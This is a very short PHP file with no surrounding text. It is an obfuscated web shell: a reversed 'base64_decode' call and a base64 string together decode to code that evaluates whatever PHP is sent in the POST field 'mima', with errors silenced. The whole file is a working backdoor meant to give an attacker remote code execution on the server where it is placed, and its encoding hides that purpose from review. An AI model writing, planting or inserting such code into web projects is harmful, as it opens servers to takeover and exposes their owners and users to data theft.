<?php
$jbC = strrev('edoced_46esab');
eval($jbC('QGV2YWwoJF9QT1NUWydtaW1hJ10pOw=='));
